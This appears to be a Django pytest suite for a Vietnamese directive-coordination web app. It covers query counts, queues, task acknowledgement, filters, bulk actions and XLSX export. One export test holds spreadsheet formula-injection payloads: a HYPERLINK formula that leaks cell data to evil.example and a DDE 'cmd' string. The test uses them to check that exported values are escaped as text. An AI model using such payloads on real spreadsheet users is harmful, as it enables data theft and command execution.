import io
import re

import pytest
from django.contrib.staticfiles import finders
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from coordination import selectors
from coordination.models import Assignment, Directive, Urgency
from org.models import Structure, Unit, UnitKind
from tests.workflows.directive.helpers import acknowledge, approve, assignment_of, issue, open_task, unit


def _running(user, capture, units):
    with capture(execute=True):
        directive = issue(user("phongtt"), units)
    with capture(execute=True):
        approve(directive, user("giamdoc"))
    directive.refresh_from_db()
    return directive


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200, url
    return len(ctx.captured_queries)


def _communes(n):
    return list(Unit.objects.filter(structure=Structure.Y2025, kind=UnitKind.COMMUNE).order_by("path")[:n])


@pytest.mark.parametrize("path", ["/coordination/directives/{pk}/", "/coordination/directives/",
                                  "/unitassignment/queue/", "/unitassignment/inbox/",
                                  "/directive/queue/"])
def test_page_query_count_does_not_grow_with_rows(demo, user, client, django_capture_on_commit_callbacks, path):
    small = _running(user, django_capture_on_commit_callbacks, _communes(3))
    client.force_login(user("phongtt"))
    url = path.format(pk=small.pk)
    before = _queries(client, url)
    large = _running(user, django_capture_on_commit_callbacks, _communes(60))
    for a in large.assignments.all()[:20]:
        Assignment.objects.filter(pk=a.pk).update(status=Assignment.Status.RECEIVED)
    issue(user("phongtt"), _communes(2))  # another directive waiting for approval
    after = _queries(client, path.format(pk=large.pk))
    assert after <= before + 1, f"{url}: {before} → {after} queries"


def test_queue_and_inbox_show_the_units_work(demo, user, client, django_capture_on_commit_callbacks):
    directive = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa"), unit("phuong_truc_bach")])
    client.force_login(user("phuong_phuc_xa"))
    html = client.get("/unitassignment/queue/").content.decode()
    assert directive.title in html and "Phường Phúc Xá" in html and "Phường Trúc Bạch" not in html
    acknowledge(assignment_of(directive, "phuong_phuc_xa"), user("phuong_phuc_xa"))
    html = client.get("/unitassignment/inbox/").content.decode()
    assert "Thực hiện và báo cáo" in html


def test_leaders_queue_lists_directives_waiting_for_approval(demo, user, client):
    directive = issue(user("phongtt"), [unit("phuong_phuc_xa")])
    client.force_login(user("giamdoc"))
    assert directive.title in client.get("/directive/queue/").content.decode()
    client.force_login(user("phuong_phuc_xa"))
    assert directive.title not in client.get("/directive/queue/").content.decode()


def test_task_page_acknowledge_through_http(demo, user, client, django_capture_on_commit_callbacks):
    directive = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa")])
    a = assignment_of(directive, "phuong_phuc_xa")
    from workflows.directive.flow import UnitAssignmentFlow

    task = open_task(a, UnitAssignmentFlow.acknowledge)
    client.force_login(user("phuong_phuc_xa"))
    assign_url = f"/hop-viec/tasks/{task.pk}/claim/"  # the inbox's claim and open
    assert client.post(assign_url).status_code == 302
    execute_url = f"/unitassignment/{task.process_id}/acknowledge/{task.pk}/execute/"
    page = client.get(execute_url)
    assert page.status_code == 200 and "Xác nhận đã nhận" in page.content.decode()
    assert client.post(execute_url).status_code == 302
    a.refresh_from_db()
    assert a.status == Assignment.Status.RECEIVED
    stale = client.post(execute_url, follow=True)  # the same form submitted again from a stale tab
    assert stale.status_code == 200
    assert "đã được xử lý" in stale.content.decode()


def test_xlsx_export_lists_every_unit(demo, user, client, django_capture_on_commit_callbacks):
    directive = _running(user, django_capture_on_commit_callbacks, _communes(5))
    acknowledge(directive.assignments.first(), user(directive.assignments.first().unit.codename))
    client.force_login(user("phongtt"))
    response = client.get(f"/coordination/directives/{directive.pk}/export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 5
    assert {r[2] for r in rows} == {"Chờ tiếp nhận", "Đã nhận"}


def test_xlsx_export_writes_formulas_as_text(demo, user, client, django_capture_on_commit_callbacks):
    """A title, a unit name or a person's name that starts like a formula stays text (common/spreadsheets.py)."""
    title = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    units = _communes(2)
    Unit.objects.filter(pk=units[0].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    with django_capture_on_commit_callbacks(execute=True):
        directive = issue(user("phongtt"), units, title=title)
    with django_capture_on_commit_callbacks(execute=True):
        approve(directive, user("giamdoc"))
    client.force_login(user("phongtt"))
    response = client.get(f"/coordination/directives/{directive.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "'" + title and sheet["A1"].data_type == "s"
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


def test_directive_filters(demo, user, client, django_capture_on_commit_callbacks):
    directive = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa"), unit("xa_minh_phu")])
    acknowledge(assignment_of(directive, "phuong_phuc_xa"), user("phuong_phuc_xa"))
    client.force_login(user("phongtt"))
    html = client.get(f"/coordination/directives/{directive.pk}/?status=received").content.decode()
    assert "Phường Phúc Xá" in html and "Xã Minh Phú" not in html
    url = f"/coordination/directives/{directive.pk}/?parent_unit={unit('huyen_soc_son').pk}"
    html = client.get(url).content.decode()
    assert "Phường Phúc Xá" not in html and "Xã Minh Phú" in html


def test_compose_directive_page(demo, user, client):
    client.force_login(user("phongtt"))
    page = client.get("/directive/new/")
    assert page.status_code == 200
    response = client.post("/directive/new/", {
        "title": "Treo cờ Tổ quốc dịp Quốc khánh", "instructions": "<p>Treo cờ</p>",
        "issuing_unit": Unit.objects.get(code="SVHTT-TTBCXB").pk,
        "urgency": Urgency.objects.get(code="khan").pk, "target_sets": ["all_districts"],
        "report_requirements": ["text"],
    })
    assert response.status_code == 302
    client.force_login(user("phuong_phuc_xa"))
    assert client.get("/directive/new/").status_code == 403


def test_bulk_acknowledge_reports_a_result_per_item(demo, user, client, django_capture_on_commit_callbacks):
    first = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa")])
    second = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa")])
    from workflows.directive.flow import UnitAssignmentFlow

    tasks = [open_task(assignment_of(d, "phuong_phuc_xa"), UnitAssignmentFlow.acknowledge) for d in (first, second)]
    client.force_login(user("phuong_phuc_xa"))
    assert client.get("/unitassignment/queue/bulk/").status_code == 200
    other = _running(user, django_capture_on_commit_callbacks, [unit("phuong_truc_bach")])
    foreign = open_task(other.assignments.get(), UnitAssignmentFlow.acknowledge)
    html = client.post("/unitassignment/queue/bulk/", {"action": "acknowledge",
                                                "tasks": [tasks[0].pk, tasks[1].pk, foreign.pk]}).content.decode()
    assert html.count("Đã xác nhận đã nhận") == 2
    assert "việc không còn trong hàng chờ" in html
    assert Assignment.objects.filter(unit__codename="phuong_phuc_xa", status=Assignment.Status.RECEIVED).count() == 2
    assert Assignment.objects.filter(unit__codename="phuong_truc_bach", status=Assignment.Status.PENDING).count() == 1


def test_a_directive_being_fanned_out_shows_its_progress_script_and_live_count(client, demo, user):
    """The page polls the fan-out's progress with coordination/fanout.js, which the static finders must find
    (it once sat under templates/, a 404 with DEBUG on and a 500 with the manifest storage)."""
    directive = issue(user("phongtt"), [unit("quan_ba_dinh"), unit("phuong_phuc_xa")])
    Directive.objects.filter(pk=directive.pk).update(status=Directive.Status.FANNING_OUT, fanout_total=2)
    client.force_login(user("phongtt"))
    html = client.get(reverse("coordination:directive_detail", args=[directive.pk])).content.decode()
    progress_url = reverse("coordination:directive_progress", args=[directive.pk])
    assert f'data-url="{progress_url}"' in html
    assert re.search(r'<script src="[^"]*coordination/fanout[^"]*\.js" defer></script>', html)
    assert finders.find("coordination/fanout.js") is not None

    cache.delete(selectors.fanout_progress_key(directive.pk))  # an earlier test's job may have left a count
    assert client.get(progress_url).json() == {"status": "fanning_out", "done": 0, "total": 2}
    cache.set(selectors.fanout_progress_key(directive.pk), {"done": 1, "total": 2})
    try:
        assert client.get(progress_url).json() == {"status": "fanning_out", "done": 1, "total": 2}
    finally:
        cache.delete(selectors.fanout_progress_key(directive.pk))
